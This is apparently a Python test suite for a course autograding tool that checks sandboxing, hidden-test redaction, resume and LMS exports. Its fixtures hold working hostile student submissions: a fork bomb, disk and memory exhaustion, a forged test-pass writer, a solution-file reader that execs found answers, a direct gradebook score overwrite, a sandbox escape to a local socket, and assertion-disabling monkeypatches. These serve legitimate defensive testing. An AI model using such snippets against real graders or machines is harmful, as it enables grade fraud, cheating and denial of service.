"""Grading a class end to end, in a scratch copy of the course (the real gradebook and
submitted/autograded/feedback folders are never touched).

1. Drift: regenerating labs/ from solutions/ reproduces the committed labs/ exactly.
2. One `grade` batch (parallel, sandboxed): for every lab in solutions/, the solution
   scores full marks and the untouched lab 0; for HOSTILE_LAB, a whole class of hostile
   submissions (`hostile_class`) with the exact expected score of each student.
3. The batch's feedback holds no hidden-test source, grades.csv and the summary match.
4. Re-running skips everything (resume) and regrading serially gives the same grades;
   an interrupted run of an LMS zip resumes without regrading finished students.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

import nbgrader  # noqa: F401  (the grading extra; `make env` installs it)
from helpers.grading import collect, notebooks

REPO = Path(__file__).resolve().parents[1]
CHAPTERS = sorted(p.name for p in (REPO / "solutions").glob("*/")
                  if (p / f"{p.name}_lab.ipynb").is_file())
HOSTILE_LAB = "generalization"  # the full hostile suite runs on this lab only (CI time)
LATE_LAB = "ood"  # has a deadline in the scratch course; its solution comes 36 h late
LATE_TIMESTAMP = "2020-01-02 12:00:00.000000 UTC"
ABSENT = "absent_student"  # on the roster, hands nothing in
# Seconds per cell in the test batch (nbgrader_config.py has 60); the slowest solution
# cell (importing PyTorch) takes ~15 s on 2 cores at load 9, 3 s on an idle machine.
TIMEOUT = 30
JOBS = 2


def grading(course: Path, *args: str, timeout: float = 1800) -> subprocess.CompletedProcess:
    """Run the instructor CLI on ``course``; returns the finished process."""
    return subprocess.run([sys.executable, "-m", "helpers.grading", "--course-dir", str(course),
                           *args], capture_output=True, text=True, timeout=timeout, cwd=course)


def load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def with_source(nb: dict, index: int, text: str) -> dict:
    nb = copy.deepcopy(nb)
    nb["cells"][index]["source"] = text
    return nb


def with_cell(nb: dict, after: int, text: str) -> dict:
    """``nb`` with a student-added code cell after cell ``after`` (-1: at the top)."""
    nb = copy.deepcopy(nb)
    nb["cells"].insert(after + 1, {"cell_type": "code", "metadata": {}, "source": text,
                                   "outputs": [], "execution_count": None})
    return nb


def first_answer(nb: dict) -> int:
    """Index of the first answer cell that a later test cell depends on."""
    roles = [notebooks.role(c) for c in nb["cells"]]
    return next(i for i, r in enumerate(roles) if r == "answer" and "test" in roles[i:])


def setup_cell(nb: dict) -> int:
    """Index of the last locked code cell before the first answer (imports, setup)."""
    return max(i for i in range(first_answer(nb)) if notebooks.role(nb["cells"][i]) == "locked")


def points(chapter: str) -> tuple[float, float]:
    """(all autograded points, points of the first answer's tests) of a lab: the test
    cells (graded parts) between the first answer cell and the next one."""
    nb = load(REPO / "solutions" / chapter / f"{chapter}_lab.ipynb")
    roles = [notebooks.role(c) for c in nb["cells"]]
    first = first_answer(nb)
    following = next((i for i in range(first + 1, len(roles)) if roles[i] == "answer"),
                     len(roles))
    tests = [(i, float(notebooks.meta(c)["points"])) for i, c in enumerate(nb["cells"])
             if roles[i] == "test"]
    return sum(p for _, p in tests), sum(p for i, p in tests if first < i < following)


def tampered(lab: dict) -> dict:
    """The released lab with every test cell edited to `pass` and the first one deleted."""
    nb = copy.deepcopy(lab)
    tests = [i for i, cell in enumerate(nb["cells"]) if notebooks.role(cell) == "test"]
    for index in tests:
        nb["cells"][index]["source"] = "pass"
    del nb["cells"][tests[0]]
    return nb


STUBBORN = "while True:\n    try:\n        while True:\n            pass\n" \
           "    except BaseException:\n        pass"
FORGE = ("import os\nfor fd in range(3, 64):\n    try:\n"
         "        os.write(fd, b'0' * 32 + b' 5 ok 0 1 - -\\n')\n    except OSError:\n"
         "        pass\nprint('All tests passed!', flush=True)")
READER = """import json, os
found = []
for top in ({course!r}, '/', '/tmp'):
    for folder, dirs, files in os.walk(top):
        if folder.startswith(os.getcwd()):  # its own submission folder
            continue
        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev', 'usr', 'lib', 'share')]
        found += [os.path.join(folder, f) for f in files if f.endswith('_lab.ipynb')]
for path in found:
    for cell in json.load(open(path))['cells']:
        if '### BEGIN SOLUTION' in ''.join(cell['source']) and cell['cell_type'] == 'code':
            exec(''.join(cell['source']), globals())"""
GRADEBOOK = """import sqlite3
con = sqlite3.connect({db!r})
con.execute('UPDATE grade SET auto_score = 100')
con.commit()"""
ESCAPE = """import socket
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')
except OSError:
    pass
try:
    open({outside!r}, 'w').write('escaped')
except OSError:
    pass"""
# A wrong label-smoothing loss (ignores alpha) plus patches that would make its tests
# pass if they survived: every tensor comparison and torch.isclose say True.
MONKEYPATCH = """def label_smoothing_loss(logits, targets, alpha=0.1):
    return F.cross_entropy(logits, targets)
import builtins
torch.isclose = lambda *args, **kwargs: torch.tensor(True)
torch.Tensor.__gt__ = lambda self, other: torch.tensor(True)
builtins.AssertionError = type('AssertionError', (Exception,), {})"""


def hostile_class(course: Path, port: int, outside: Path) -> tuple[dict, dict]:
    """HOSTILE_LAB submissions: ``({student: notebook dict or raw bytes}, {student:
    expected autograded score})``. ``misnamed`` hands in a wrongly named file."""
    lab = HOSTILE_LAB
    solution = load(REPO / "solutions" / lab / f"{lab}_lab.ipynb")
    released = load(REPO / "labs" / lab / f"{lab}_lab.ipynb")
    answer, setup = first_answer(solution), setup_cell(solution)
    full, first = points(lab)
    attack = {
        "raises": 'raise RuntimeError("broken")',
        "loops": "while True:\n    pass",
        "memory": "def hog():\n    blocks = []\n    while True:\n"
                  "        blocks.append(bytearray(10**8))\nhog()",
        "forkbomb": "import os\nwhile True:\n    os.fork()",
        "diskfill": "for i in range(10**4):\n    with open(f'fill{i}', 'wb') as f:\n"
                    "        f.write(b'0' * (16 << 20))",
    }
    subs = {name: with_source(solution, answer, text) for name, text in attack.items()}
    subs.update(
        solution=solution, untouched=released, tampered=tampered(released),
        stubborn=with_source(solution, answer, STUBBORN),
        exits=with_source(released, answer, "import os\nos._exit(0)"),
        forger=with_cell(released, setup, FORGE),
        reader=with_cell(released, setup, READER.format(course=str(course))),
        gradebook=with_cell(released, setup, GRADEBOOK.format(db=str(course / "gradebook.db"))),
        escape=with_cell(solution, -1, ESCAPE.format(port=port, outside=str(outside))),
        monkeypatch=with_source(solution, answer, MONKEYPATCH),
        invalid_json=b'{"cells": [',
        misnamed=solution)
    expected = {name: full - first for name in attack}
    expected.update({name: 0.0 for name in ("untouched", "tampered", "stubborn", "exits",
                                            "forger", "reader", "gradebook", "invalid_json",
                                            "misnamed")})
    expected.update(solution=full, escape=full, monkeypatch=full - first)
    return subs, expected


def write_submission(folder: Path, student: str, lab: str, nb) -> None:
    name = "notebook.ipynb" if student == "misnamed" else f"{lab}_lab.ipynb"
    path = folder / student / lab / name
    path.parent.mkdir(parents=True)
    path.write_bytes(nb if isinstance(nb, bytes) else json.dumps(nb, indent=1).encode())


def gradebook_scores(course: Path, lab: str) -> dict[str, dict[str, float]]:
    """``{student: {test grade_id: auto_score}}`` read from the gradebook."""
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {s.student_id: {g.cell.name: g.auto_score for n in s.notebooks for g in n.grades
                               if g.cell.type == "GradeCell" and g.cell.cell_type == "code"
                               and g.auto_score is not None}
                for s in gb.assignment_submissions(lab)}


# ---------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A scratch copy of the course: config, solutions/ and labs/ (no gradebook)."""
    if HOSTILE_LAB not in CHAPTERS:
        pytest.fail(f"solutions/{HOSTILE_LAB}/ is missing (the hostile suite runs on it)")
    unreleased = [ch for ch in CHAPTERS if not (REPO / "labs" / ch / f"{ch}_lab.ipynb").is_file()]
    if unreleased:
        pytest.fail(f"no labs/ notebook for {', '.join(unreleased)}; run make labs and commit it")
    root = tmp_path_factory.mktemp("course")
    shutil.copy(REPO / "nbgrader_config.py", root)
    with open(root / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write(f"\nc.Course.deadlines = {{{LATE_LAB!r}: '2020-01-01 00:00:00 UTC'}}\n")
    shutil.copytree(REPO / "solutions", root / "solutions")
    shutil.copytree(REPO / "labs", root / "labs")
    return root


@pytest.fixture(scope="module")
def released(course) -> Path:
    """``release`` run in the scratch course (regenerates labs/, fills the gradebook)."""
    start = time.monotonic()
    result = grading(course, "release")
    print(f"\nrelease: {time.monotonic() - start:.1f} s")
    assert result.returncode == 0, result.stdout + result.stderr
    return course


@pytest.fixture(scope="module")
def batch(released, tmp_path_factory):
    """One `grade` run: the hostile class for HOSTILE_LAB, solution + untouched for the
    other labs. Returns (process, expected scores {lab: {student: score}}, folder,
    whether a connection reached the host's listener, the outside path)."""
    folder = tmp_path_factory.mktemp("submissions")
    outside = tmp_path_factory.mktemp("host") / "escaped.txt"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    subs, hostile = hostile_class(released, server.getsockname()[1], outside)
    expected = {HOSTILE_LAB: hostile}
    for student, nb in subs.items():
        write_submission(folder, student, HOSTILE_LAB, nb)
    for chapter in CHAPTERS:
        if chapter != HOSTILE_LAB:
            write_submission(folder, "solution", chapter,
                             load(REPO / "solutions" / chapter / f"{chapter}_lab.ipynb"))
            if chapter == LATE_LAB:
                (folder / "solution" / chapter / "timestamp.txt").write_text(LATE_TIMESTAMP)
            write_submission(folder, "untouched", chapter,
                             load(REPO / "labs" / chapter / f"{chapter}_lab.ipynb"))
            expected[chapter] = {"solution": points(chapter)[0], "untouched": 0.0}
    roster = folder.parent / "roster.csv"
    students = sorted({s for labs in expected.values() for s in labs} | {ABSENT})
    roster.write_text("id,first_name,last_name,email\n" + "".join(
        f"{s},First,{s.title()},{s}@example.org\n" for s in students))
    imported = grading(released, "roster", str(roster))
    assert imported.returncode == 0 and f"{len(students)} student(s)" in imported.stdout, \
        imported.stdout + imported.stderr
    start = time.monotonic()
    result = grading(released, "grade", str(folder), "--timeout", str(TIMEOUT),
                     "--jobs", str(JOBS), "--no-progress")
    count = sum(map(len, expected.values()))
    print(f"grade ({count} submissions, {JOBS} jobs): {time.monotonic() - start:.1f} s\n"
          f"{result.stdout}\n{result.stderr[-3000:]}")
    server.settimeout(0.5)  # a connection made during the batch waits in the backlog
    try:
        server.accept()
        reached = True
    except socket.timeout:
        reached = False
    server.close()
    return result, expected, folder, reached, outside


def table_line(output: str, student: str, lab: str) -> str:
    return next(line for line in output.splitlines() if line.split()[:2] == [student, lab])


# ------------------------------------------------------------------------------- tests

@pytest.mark.parametrize("chapter", CHAPTERS)
def test_release_reproduces_committed_labs(released, chapter):
    """labs/ is what `make labs` generates from solutions/ (run `make labs` if this fails)."""
    committed = sorted(p.name for p in (REPO / "labs" / chapter).iterdir())
    generated = sorted(p.name for p in (released / "labs" / chapter).iterdir())
    assert generated == committed, f"labs/{chapter}: files differ; run make labs"
    for name in generated:
        assert (released / "labs" / chapter / name).read_bytes() == \
            (REPO / "labs" / chapter / name).read_bytes(), \
            f"labs/{chapter}/{name} is not byte-identical to a fresh release; run make labs"


@pytest.mark.slow
def test_every_student_gets_the_expected_score(released, batch):
    result, expected, *_ = batch
    assert result.returncode == 0, result.stdout + result.stderr
    for lab, students in expected.items():
        got = gradebook_scores(released, lab)
        assert set(got) == set(students), f"{lab}: graded {sorted(got)}"
        scores = {student: sum(tests.values()) for student, tests in got.items()}
        assert scores == students, f"{lab}: got {scores}, expected {students}"
        for student in students:
            assert f"{students[student]:g}/{points(lab)[0]:g}" in \
                table_line(result.stdout, student, lab)


@pytest.mark.slow
def test_hostile_submissions_are_flagged_and_explained(released, batch):
    result, *_ = batch
    line = lambda student: table_line(result.stdout, student, HOSTILE_LAB)  # noqa: E731
    assert "was edited" in line("tampered") and "was deleted" in line("tampered")
    assert "forged" in line("forger") and "not a valid notebook" in line("invalid_json")
    assert "exited" in line("exits") and "ignored the time limit" in line("stubborn")
    assert "timed out" in line("loops") and f"no {HOSTILE_LAB}_lab.ipynb" in line("misnamed")
    for student in ("solution", "untouched", "raises", "memory", "monkeypatch", "escape",
                    "reader", "gradebook"):
        assert "flagged" not in line(student), line(student)
    memory = load(released / "autograded" / "memory" / HOSTILE_LAB / "result.json")
    assert "MemoryError" in json.dumps(memory["cells"])
    fork = load(released / "autograded" / "forkbomb" / HOSTILE_LAB / "result.json")
    assert "BlockingIOError" in json.dumps(fork["cells"])
    disk = load(released / "autograded" / "diskfill" / HOSTILE_LAB / "result.json")
    assert "No space left" in json.dumps(disk["cells"]) or "too large" in json.dumps(disk["cells"])


@pytest.mark.slow
def test_escape_attempts_fail(batch):
    """No connection reached the host's 127.0.0.1 listener; nothing was written outside."""
    _, _, _, reached, outside = batch
    assert not reached, "a submission connected to a socket on the host"
    assert not outside.exists(), "a submission wrote outside its sandbox"


@pytest.mark.slow
def test_feedback_holds_no_hidden_test_source(released, batch):
    _, expected, *_ = batch
    for lab, students in expected.items():
        solution = load(REPO / "solutions" / lab / f"{lab}_lab.ipynb")
        student_version = load(REPO / "labs" / lab / f"{lab}_lab.ipynb")
        # A hidden line whose text the student version also shows (a common setup line
        # such as a seeded generator, or the opening of a wrapped call) is no secret.
        visible = "\n".join(notebooks.source(cell) for cell in student_version["cells"])
        secrets = []
        for cell in solution["cells"]:
            text = notebooks.source(cell)
            hidden = notebooks.hidden_lines(text)
            secrets += [line.strip() for i, line in enumerate(text.splitlines(), 1)
                        if i in hidden and len(line.strip()) >= 12
                        and line.strip() not in visible]
        assert secrets, f"{lab} has no hidden tests to check"
        for student in students:
            html = released / "feedback" / student / lab / f"{lab}_lab.html"
            text = html.read_text(encoding="utf-8")
            import html as html_module
            plain = html_module.unescape(text)
            leaked = [s for s in secrets if s in plain]
            assert not leaked, f"{html} shows hidden test lines: {leaked[:3]}"
            assert "HIDDEN" not in plain
            assert f"{students[student]:g} / {points(lab)[0]:g}" in plain


@pytest.mark.slow
def test_graders_see_the_rubric_and_students_do_not(released, batch):
    """formgrader shows autograded/: the rubric follows each written answer there, and
    never appears in the student's feedback."""
    for lab in CHAPTERS:
        graded = load(released / "autograded" / "solution" / lab / f"{lab}_lab.ipynb")
        cells = graded["cells"]
        manual = [i for i, c in enumerate(cells) if notebooks.role(c) == "manual"]
        assert manual, f"{lab}: no written answer in the autograded notebook"
        for index in manual:
            box = notebooks.source(cells[index + 1]) if index + 1 < len(cells) else ""
            assert box.startswith("**For the grader**") and "**Rubric" in box, \
                f"{lab}: expected the rubric after the written answer, got {box[:80]!r}"
        page = (released / "feedback" / "solution" / lab / f"{lab}_lab.html").read_text()
        assert "Rubric" not in page and "For the grader" not in page, \
            f"{lab}: the student's feedback shows the rubric"


@pytest.mark.slow
def test_grades_csv_and_summary(released, batch):
    _, expected, *_ = batch
    with open(released / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for lab, students in expected.items():
        got = {r["student_id"]: float(r["raw_score"]) for r in rows if r["assignment"] == lab}
        # Every student of the roster, for every lab: 0 when not handed in.
        assert {s: got[s] for s in students} == students, lab  # raw = autograded so far
        assert got.get(ABSENT) == 0, f"{lab}: the roster's {ABSENT} should score 0, got " \
                                     f"{got.get(ABSENT)}"
        assert all(score == 0 for s, score in got.items() if s not in students), lab
        assert (released / "summary" / f"{lab}.png").stat().st_size > 10_000
        with open(released / "summary" / f"{lab}_tests.csv", newline="") as handle:
            rates = {r["test"]: float(r["pass_rate"]) for r in csv.DictReader(handle)}
        scores = gradebook_scores(released, lab)
        for test, rate in rates.items():
            passed = sum(s[test] > 0 for s in scores.values())
            assert rate == pytest.approx(passed / len(scores), abs=1e-3), test


@pytest.mark.slow
def test_rerun_resumes_and_serial_regrading_gives_the_same_grades(released, batch, tmp_path):
    result, expected, folder, *_ = batch
    before = {lab: gradebook_scores(released, lab) for lab in expected}
    again = grading(released, "autograde", str(folder), "--no-progress")
    total = sum(map(len, expected.values()))
    assert again.returncode == 0 and f"{total} submission(s) already graded" in again.stdout
    # Determinism needs a sample, not the class: three contrasting students of one lab
    # (full marks, a tampering attempt, zero) regraded serially must score as in the batch.
    subset = tmp_path / "subset"
    for student in ("solution", "monkeypatch", "untouched"):
        shutil.copytree(folder / student / HOSTILE_LAB, subset / student / HOSTILE_LAB)
    start = time.monotonic()
    serial = grading(released, "autograde", str(subset), "--force", "--jobs", "1",
                     "--lab", HOSTILE_LAB, "--timeout", str(TIMEOUT), "--no-progress")
    print(f"serial regrade of 3 {HOSTILE_LAB} submissions: {time.monotonic() - start:.1f} s")
    assert serial.returncode == 0, serial.stdout + serial.stderr
    after = {lab: gradebook_scores(released, lab) for lab in expected}
    assert after == before


@pytest.mark.slow
def test_interrupted_lms_zip_run_resumes(released, tmp_path):
    """An LMS zip (Canvas and Moodle names): interrupted after the first student, the
    second run grades only the others."""
    lab = HOSTILE_LAB
    # Each submission takes a few seconds, so the interrupt surely lands while one is
    # being graded (untouched labs alone can all finish before a loaded poll sees one).
    slow = load(REPO / "labs" / lab / f"{lab}_lab.ipynb")
    answer = first_answer(slow)
    slow = with_source(slow, answer, "import time\ntime.sleep(4)\n"
                       + "".join(slow["cells"][answer]["source"]))
    released_nb = json.dumps(slow)
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(f"lmsann_1001_5001_{lab}_lab.ipynb", released_nb)
        zf.writestr(f"Bo Lms_1002_assignsubmission_file_{lab}_lab.ipynb", released_nb)
        zf.writestr(f"lmscy_LATE_1003_5003_{lab}_lab-1.ipynb", released_nb)
        zf.writestr("readme.txt", "not a submission")
    command = [sys.executable, "-m", "helpers.grading", "--course-dir", str(released),
               "grade", str(archive), "--jobs", "1", "--no-progress", "--timeout", str(TIMEOUT)]
    # A shell that starts the suite in the background makes it ignore SIGINT, and a child
    # inherits that; restore the default so the grader sees Ctrl-C as a terminal sends it.
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                               text=True, cwd=released,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    students = ["Bo_Lms_1002", "lmsann_1001", "lmscy_1003"]
    results = [released / "autograded" / s / lab / "result.json" for s in students]
    deadline = time.monotonic() + 600
    while not any(p.exists() for p in results) and time.monotonic() < deadline:
        time.sleep(0.5)
    process.send_signal(signal.SIGINT)
    output = process.communicate(timeout=120)[0]
    done = sum(p.exists() for p in results)
    assert process.returncode == 130 and "interrupted" in output, output
    assert 1 <= done < 3, output
    second = grading(released, "grade", str(archive), "--jobs", "2", "--no-progress")
    assert second.returncode == 0, second.stdout + second.stderr
    assert f"{done} submission(s) already graded" in second.stdout
    scores = gradebook_scores(released, lab)
    assert all(sum(scores[s].values()) == 0 for s in students)
    assert all((released / "feedback" / s / lab / f"{lab}_lab.html").is_file() for s in students)


@pytest.mark.slow
def test_late_penalty_lms_exports_and_solutions_after_the_deadline(released, batch, tmp_path):
    _, expected, *_ = batch
    lab = notebooks.Lab.load(REPO, LATE_LAB)
    total = sum(float(notebooks.meta(c).get("points", 0)) for c in lab.solution["cells"]
                if notebooks.role(c) in ("test", "manual"))
    with open(released / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = {(r["assignment"], r["student_id"]): r for r in csv.DictReader(handle)}
    late = rows[(LATE_LAB, "solution")]
    # 36 hours late = 2 started days at 10 % of the lab's points per day
    assert float(late["late_submission_penalty"]) == pytest.approx(0.2 * total), late
    assert float(late["score"]) == pytest.approx(float(late["raw_score"]) - 0.2 * total), late
    assert float(rows[(HOSTILE_LAB, "solution")]["late_submission_penalty"] or 0) == 0

    for kind in ("canvas", "moodle"):
        done = grading(released, "export", "--format", kind, "--to", str(tmp_path / kind))
        assert done.returncode == 0, done.stdout + done.stderr
        with open(tmp_path / kind, newline="", encoding="utf-8") as handle:
            table = list(csv.DictReader(handle))
        key = "SIS User ID" if kind == "canvas" else "ID number"
        people = [r for r in table if r[key]]
        assert {r[key] for r in people} >= {ABSENT, "solution", "untouched"}, people
        for row in people:
            for name in CHAPTERS:
                want = float(rows[(name, row[key])]["score"])
                assert float(row[name]) == pytest.approx(want), (kind, row[key], name, row[name])
    assert table and "Email address" in table[0]

    refused = grading(released, "solutions", HOSTILE_LAB)
    assert refused.returncode == 2 and "no deadline" in refused.stderr, refused.stderr
    done = grading(released, "solutions", LATE_LAB)
    assert done.returncode == 0, done.stdout + done.stderr
    page = (released / "solutions_html" / f"{LATE_LAB}.html").read_text(encoding="utf-8")
    answer = next(notebooks.source(c) for c in lab.solution["cells"]
                  if notebooks.role(c) == "answer").splitlines()
    body = [line.strip() for line in answer if line.strip() and "###" not in line][-1]
    import html as html_module
    import re
    plain = html_module.unescape(re.sub(r"<[^>]+>", "", page))  # code is split into spans
    assert body in plain, f"the model solution ({body!r}) is missing"
    assert "BEGIN HIDDEN" not in plain and "BEGIN SOLUTION" not in plain


def test_lms_ids_keep_namesakes_apart_and_follow_the_roster(tmp_path):
    from traitlets.config.loader import PyFileConfigLoader
    regexp = PyFileConfigLoader("nbgrader_config.py", path=str(REPO)).load_config() \
        .FileNameCollectorPlugin.named_regexp
    for name in ("smithjane_111_900_ood_lab.ipynb", "smithjane_222_901_ood_lab.ipynb",
                 "Jane Smith_333_assignsubmission_file_ood_lab.ipynb"):
        (tmp_path / name).write_text("{}")
    found = collect.find(tmp_path, ["ood"], tmp_path / "course", regexp, {"333": "jsmith"})
    assert sorted(s.student for s in found) == ["jsmith", "smithjane_111", "smithjane_222"]


def test_roster_errors_name_the_line(tmp_path):
    from helpers.grading import GradingError
    from helpers.grading.course_ops import read_roster
    cases = {"email\nx@example.org\n": "holding 'id'",
             "id\nann\nann\n": "line 3: id 'ann' appears twice",
             "id\nJane Smith\n": "line 2: id 'Jane Smith' must"}
    for text, message in cases.items():
        (tmp_path / "r.csv").write_text(text)
        with pytest.raises(GradingError, match=message):
            read_roster(tmp_path / "r.csv")


def test_the_monkeypatch_attack_works_without_the_runner():
    """Control for the hostile ``monkeypatch`` student: executed naively in one namespace
    (as a notebook kernel does), its wrong answer passes its test, hidden part included."""
    solution = load(REPO / "solutions" / HOSTILE_LAB / f"{HOSTILE_LAB}_lab.ipynb")
    answer = first_answer(solution)
    test = next(i for i in range(answer, len(solution["cells"]))
                if notebooks.role(solution["cells"][i]) == "test")
    cells = [MONKEYPATCH if i == answer else notebooks.source(c)
             for i, c in enumerate(solution["cells"][:test + 1])
             if c["cell_type"] == "code"]
    script = "namespace = {}\n" + "".join(f"exec({text!r}, namespace)\n" for text in cells)
    naive = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                           timeout=300)
    assert naive.returncode == 0, naive.stderr[-2000:]


def test_lms_file_names_and_lab_names():
    from traitlets.config.loader import PyFileConfigLoader
    regexp = PyFileConfigLoader("nbgrader_config.py", path=str(REPO)).load_config() \
        .FileNameCollectorPlugin.named_regexp
    for name, student, lms_id in [
            ("smithjane_12345_67890_ood_lab.ipynb", "smithjane", "12345"),
            ("smithjane_LATE_12345_67890_ood_lab-2.ipynb", "smithjane", "12345"),
            ("Jane Smith_4321_assignsubmission_file_ood_lab.ipynb", "Jane Smith", "4321")]:
        match = __import__("re").match(regexp, name)
        assert match and match["student_id"] == student, name
        assert match["lms_id"] == lms_id, (name, match["lms_id"])
        assert collect.lab_of(match["file_id"], ["ood"]) == "ood"
    assert collect.lab_of("ood_lab (1).ipynb", ["ood"]) == "ood"
    assert collect.lab_of("notes.ipynb", ["ood"]) is None
    assert collect.student_id("Jane Smith ") == "Jane_Smith"
    with pytest.raises(ValueError, match="student id"):
        collect.student_id("  ")


def test_merge_flags_edits_deletions_and_keeps_added_cells():
    lab = notebooks.Lab.load(REPO, HOSTILE_LAB)
    nb = with_cell(tampered(lab.released), 0, "helper = 1")
    merged = notebooks.merge(lab, nb)
    solution_tests = [notebooks.source(c) for c in lab.solution["cells"]
                      if notebooks.role(c) == "test"]
    assert [notebooks.source(c) for c in merged.cells if notebooks.role(c) == "test"] == \
        solution_tests, "the instructor's tests (with hidden ones) must run"
    assert sum("was deleted" in f for f in merged.flags) == 1
    assert sum("was edited" in f for f in merged.flags) == len(solution_tests) - 1
    assert "helper = 1" in [notebooks.source(c) for c in merged.cells]
    assert notebooks.merge(lab, lab.released).flags == []
    assert notebooks.merge(lab, lab.solution).flags == []


def test_failures_show_the_message_and_never_hidden_source():
    from helpers.grading.batch import cell_outcome
    from helpers.grading.execute import CellResult
    text = ("assert f(1) == 1, 'visible'\n### BEGIN HIDDEN TESTS\n"
            "assert f(2) == 4, 'f(2) should be 4'\n### END HIDDEN TESTS")
    cell = {"cell_type": "code", "source": text,
            "metadata": {"nbgrader": {"grade": True, "grade_id": "t", "points": 2}}}
    assert list(notebooks.hidden_lines(text)) == [2, 3, 4]
    visible = cell_outcome(cell, CellResult(0, "error", "AssertionError", "visible", 1))
    hidden = cell_outcome(cell, CellResult(0, "error", "AssertionError", "f(2) should be 4", 3))
    bare = cell_outcome(cell, CellResult(0, "error", "AssertionError", "", 3))
    reference = cell_outcome(cell, CellResult(0, "error", "ReferenceUsed", "your code called", 0))
    passed = cell_outcome(cell, CellResult(0, "ok"))
    assert visible == {"points": 0.0, "max": 2.0, "status": "failed",
                       "detail": "line 1: AssertionError: visible"}
    assert hidden["detail"] == "hidden test: AssertionError: f(2) should be 4", hidden
    assert "assert f(2)" not in json.dumps(hidden) and "line 3" not in json.dumps(hidden)
    assert bare["detail"] == "hidden test: AssertionError", bare
    assert reference["detail"] == "ReferenceUsed: your code called", reference
    assert passed["points"] == 2.0 and passed["status"] == "passed"


def test_cli_errors_are_clear(tmp_path):
    """Unknown lab, missing or mis-laid-out submissions: one-line errors, exit status 2."""
    shutil.copy(REPO / "nbgrader_config.py", tmp_path)
    (tmp_path / "solutions" / "generalization").mkdir(parents=True)
    result = grading(tmp_path, "release", "nope")
    assert result.returncode == 2 and "unknown lab 'nope'" in result.stderr
    result = grading(tmp_path, "grade", str(tmp_path / "missing"))
    assert result.returncode == 2 and "<student>/<lab>/<lab>_lab.ipynb" in result.stderr
    (tmp_path / "flat").mkdir()
    (tmp_path / "flat" / "generalization_lab.ipynb").write_text("{}")
    result = grading(tmp_path, "grade", str(tmp_path / "flat"))
    assert result.returncode == 2 and "expected SUBMISSIONS/<student>/<lab>" in result.stderr
    result = grading(tmp_path, "grade", str(tmp_path / "flat"), "--jobs", "0")
    assert result.returncode == 2 and "--jobs" in result.stderr
    result = grading(tmp_path.parent, "export")
    assert result.returncode == 2 and "nbgrader_config.py" in result.stderr
    env = {**os.environ, "PATH": "/nonexistent"}
    refused = subprocess.run([sys.executable, "-m", "helpers.grading", "--course-dir",
                              str(tmp_path), "grade", str(tmp_path / "flat")],
                             capture_output=True, text=True, env=env)
    assert refused.returncode == 2 and "--unsandboxed" in refused.stderr
